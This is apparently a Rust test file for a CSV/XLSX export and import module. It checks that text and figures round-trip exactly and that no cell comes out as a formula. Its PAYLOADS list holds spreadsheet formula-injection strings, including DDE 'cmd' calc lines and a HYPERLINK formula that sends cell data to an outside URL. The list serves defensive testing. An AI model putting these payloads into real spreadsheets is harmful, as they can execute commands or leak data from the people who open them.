//! Out and in again: what was a text is the same text, what was a figure the same figure, and
//! nothing becomes a formula on the way.

use super::*;
use proptest::prelude::*;
use rust_xlsxwriter::{Formula, Workbook};

/// What has been used to make a spreadsheet act.
const PAYLOADS: [&str; 30] = [
    "=1+1",
    "=HYPERLINK(\"http://example.org?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+44 1243 777100",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "  =1+1",
    "\u{a0}=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "'=1+1",
    "''=1+1",
    "'quoted'",
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    "\"=1+1\"",
    "=1+1\";=1+1;\"",
    "_x003D_1+1",
    "-",
];

fn table(texts: &[&str]) -> Table {
    let rows = texts.iter().map(|text| vec!["x".to_owned(), (*text).to_owned(), "y".to_owned()]);
    Table::new(vec!["Before".into(), "Text".into(), "After".into()], rows)
}

fn second(table: &Table) -> Vec<&str> {
    table.rows.iter().map(|row| row.cells[1].as_str()).collect()
}

fn faults(read: Result<Table, Refused>) -> Vec<(Option<u32>, Option<u32>, &'static str)> {
    let faults = read.unwrap_err().faults;
    faults.into_iter().map(|fault| (fault.row, fault.column, fault.code)).collect()
}

fn file(code: &'static str) -> Vec<(Option<u32>, Option<u32>, &'static str)> {
    vec![(None, None, code)]
}

/// A workbook of one sheet, as somebody else writes it.
fn workbook(fill: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Code").unwrap();
    sheet.write_string(0, 1, "Day").unwrap();
    fill(sheet);
    book.save_to_buffer().unwrap()
}

#[test]
fn no_cell_of_a_csv_file_begins_like_a_formula_and_every_text_comes_back() {
    let written = csv::write(&table(&PAYLOADS)).unwrap();
    let text = std::str::from_utf8(&written).unwrap();
    let mut reader = ::csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(!is_formula(cell), "{cell:?}");
        }
    }
    assert_eq!(second(&csv::read(&written).unwrap()), PAYLOADS);
}

#[test]
fn no_cell_of_a_workbook_begins_like_a_formula_and_every_text_comes_back() {
    let written = xlsx::write(&table(&PAYLOADS), "Sheet").unwrap();
    let read = xlsx::read(&written).unwrap();
    assert_eq!(second(&read), PAYLOADS);
    let raw = crate_text(&written, "xl/sharedStrings.xml");
    assert!(raw.contains("&apos;=1+1") || raw.contains("'=1+1"), "{raw}");
    assert!(!crate_text(&written, "xl/worksheets/sheet1.xml").contains("<f>"));
}

/// A file of a container, as text.
fn crate_text(bytes: &[u8], name: &str) -> String {
    let mut found = String::new();
    crate::document::inspect::archive::walk(bytes, |entry, content| {
        if entry == name {
            std::io::Read::read_to_string(content, &mut found).unwrap();
        }
        Ok(())
    })
    .unwrap();
    found
}

#[test]
fn a_nul_goes_out_behind_an_apostrophe_and_is_refused_coming_in() {
    assert_eq!(guarded("\0=1"), "'\0=1");
    let written = csv::write(&table(&["\0=1"])).unwrap();
    assert_eq!(faults(csv::read(&written)), [(Some(2), Some(2), "unknown_value")]);
}

#[test]
fn figures_stay_figures() {
    let figures = ["0", "212.50", "-3", "-0.05", "9999999.99", "62.1"];
    assert!(figures.iter().all(|text| is_figure(text) && guarded(text) == *text));
    for text in ["1.005", "1e3", "1,5", "£1", "", ".5", "5.", "--1", "+1"] {
        assert!(!is_figure(text), "{text}");
    }
    let written = csv::write(&table(&figures)).unwrap();
    let text = String::from_utf8(written.clone()).unwrap();
    assert!(text.contains("\"x\",212.50,\"y\""), "{text}");
    assert_eq!(second(&csv::read(&written).unwrap()), figures);
    let written = xlsx::write(&table(&figures), "Sheet").unwrap();
    let back = xlsx::read(&written).unwrap();
    assert_eq!(second(&back), ["0", "212.5", "-3", "-0.05", "9999999.99", "62.1"]);
}

proptest! {
    #[test]
    fn every_amount_comes_back_to_the_penny(pence in 0_i64..=999_999_999) {
        let amount = together_rules::amount::Money::from_hundredths(pence);
        let text = amount.to_string();
        let one = table(&[text.as_str()]);
        for read in [
            csv::read(&csv::write(&one).unwrap()).unwrap(),
            xlsx::read(&xlsx::write(&one, "Sheet").unwrap()).unwrap(),
        ] {
            let back = together_rules::amount::Money::parse(second(&read)[0]);
            prop_assert_eq!(back, Ok(amount));
        }
    }

    #[test]
    fn every_text_comes_back(text in "[ -~＝\u{a0}'=+@\n\t-]{1,40}") {
        prop_assume!(!text.trim().is_empty());
        let one = table(&[text.as_str()]);
        let read = csv::read(&csv::write(&one).unwrap()).unwrap();
        prop_assert_eq!(second(&read), [text.as_str()]);
    }
}

#[test]
fn the_same_table_is_the_same_file() {
    let one = table(&["212.50", "a"]);
    assert_eq!(xlsx::write(&one, "Sheet").unwrap(), xlsx::write(&one, "Sheet").unwrap());
}

#[test]
fn a_csv_file_is_read_as_a_spreadsheet_shows_it() {
    let text = "\u{feff}Code,Day\r\npremises,212.50\r\n\r\n,\r\n\"vehicles\nand more\",\"22\"\r\n";
    let read = csv::read(text.as_bytes()).unwrap();
    assert_eq!(read.headers, ["Code", "Day"]);
    let rows: Vec<(u32, &str)> =
        read.rows.iter().map(|row| (row.number, row.cells[0].as_str())).collect();
    assert_eq!(rows, [(2, "premises"), (5, "vehicles\nand more")]);
    // Without a mark, with other line ends, without the last one.
    for text in ["Code,Day\npremises,1", "Code,Day\rpremises,1\r"] {
        assert_eq!(csv::read(text.as_bytes()).unwrap().rows.len(), 1);
    }
}

#[test]
fn what_is_wrong_with_a_csv_file_is_said_by_place() {
    let read = |text: &[u8]| faults(csv::read(text));
    assert_eq!(read(b"Code,Day\npremises,=1+1\n"), [(Some(2), Some(2), "formula")]);
    assert_eq!(read(b"Code,Day\npremises\n"), [(Some(2), None, "missing")]);
    assert_eq!(read(b"Code,Day\na,1\n\nb,2,3\n"), [(Some(4), Some(3), "unknown_id")]);
    assert_eq!(read(b"Code,Day\na\0,1\n"), [(Some(2), Some(1), "unknown_value")]);
    assert_eq!(read(b"Code;Day\na;1\n"), [(Some(1), None, "wrong_separator")]);
    assert_eq!(read(b"Code\tDay\na\t1\n"), [(Some(1), None, "wrong_separator")]);
    assert_eq!(read(b"Code,Day\n\"prem"), [(Some(2), None, "unknown_value")]);
    assert_eq!(read(b"Code,Day\n\xe9,1\n"), file("unknown_value"));
    assert_eq!(read(b"\xff\xfeC\0o\0"), file("unknown_value"));
    assert_eq!(read(b""), file("empty_list"));
    assert_eq!(read(b"Code,Day\n,\n"), file("empty_list"));
    let long = format!("Code,Day\n{},1\n", "a".repeat(LONGEST_CELL + 1));
    assert_eq!(read(long.as_bytes()), [(Some(2), Some(1), "out_of_range")]);
    let wide = ",".repeat(100);
    assert_eq!(read(wide.as_bytes()), [(Some(1), None, "too_many_columns")]);
    let tall = format!("Code,Day\n{}", "a,1\n".repeat(5_001));
    assert_eq!(read(tall.as_bytes()), file("too_many_rows"));
    let most = format!("Code,Day\n{}", "a,1\n".repeat(5_000));
    assert_eq!(csv::read(most.as_bytes()).unwrap().rows.len(), 5_000);
    assert_eq!(read("a,1\n".repeat(10_000_000).as_bytes()), file("too_large"));
    let all_wrong = format!("Code,Day\n{}", "a,=1\n".repeat(4_000));
    assert_eq!(read(all_wrong.as_bytes()).len(), MOST_FAULTS);
}

#[test]
fn what_is_wrong_with_a_workbook_is_said_by_place() {
    let with = |fill: &dyn Fn(&mut rust_xlsxwriter::Worksheet)| {
        faults(xlsx::read(&workbook(|sheet| fill(sheet))))
    };
    let found = with(&|sheet| {
        sheet.write_formula(1, 1, Formula::new("=100+112.5").set_result("212.5")).unwrap();
        sheet.write_string(2, 0, "=1+1").unwrap();
        sheet.write_boolean(3, 1, true).unwrap();
        let date = rust_xlsxwriter::Format::new().set_num_format("dd/mm/yyyy");
        sheet.write_number_with_format(4, 1, 46_000, &date).unwrap();
        sheet.write_number(5, 4, 1).unwrap();
    });
    assert_eq!(
        found,
        [
            (Some(2), Some(2), "formula"),
            (Some(3), Some(1), "formula"),
            (Some(4), Some(2), "unknown_value"),
            (Some(5), Some(2), "unknown_value"),
            (Some(6), Some(3), "unknown_id"),
        ]
    );
    let far = with(&|sheet| {
        sheet.write_number(1_048_575, 0, 1).unwrap();
    });
    assert_eq!(far, file("too_many_rows"));
    let wide = with(&|sheet| {
        sheet.write_number(1, 16_383, 1).unwrap();
    });
    assert_eq!(wide, [(Some(2), None, "too_many_columns")]);
    assert_eq!(with(&|_| ()), file("empty_list"));
}

#[test]
fn a_number_shows_every_decimal_it_has() {
    let book = workbook(|sheet| {
        for (row, number) in (1..).zip([212.505, 0.1 + 0.2, 250.0, 1e15, -5.5]) {
            sheet.write_string(row, 0, "a").unwrap();
            sheet.write_number(row, 1, number).unwrap();
        }
    });
    let read = xlsx::read(&book).unwrap();
    let expected = ["212.505", "0.30000000000000004", "250", "1000000000000000", "-5.5"];
    assert_eq!(second(&read), expected);
}

#[test]
fn what_is_no_workbook_is_not_opened() {
    assert_eq!(faults(xlsx::read(b"Code,Day\na,1\n")), file("wrong_kind"));
    assert_eq!(faults(xlsx::read(b"")), file("wrong_kind"));
    assert_eq!(faults(xlsx::read(&vec![0; MOST_XLSX + 1])), file("too_large"));
    let whole = xlsx::write(&table(&["212.50"]), "Sheet").unwrap();
    for length in [10, whole.len() / 2, whole.len() - 5] {
        let found = faults(xlsx::read(&whole[..length]));
        assert!(["wrong_kind", "broken_file"].contains(&found[0].2), "{length}: {found:?}");
    }
    // A container that is no workbook.
    let mut empty = ::zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    empty.start_file("a.txt", ::zip::write::SimpleFileOptions::default()).unwrap();
    let other = empty.finish().unwrap().into_inner();
    assert_eq!(faults(xlsx::read(&other)), file("broken_file"));
}

#[test]
fn columns_are_named_as_in_a_spreadsheet() {
    let names = [1, 2, 26, 27, 52, 53, 702, 703].map(column_letters);
    assert_eq!(names, ["A", "B", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]);
}
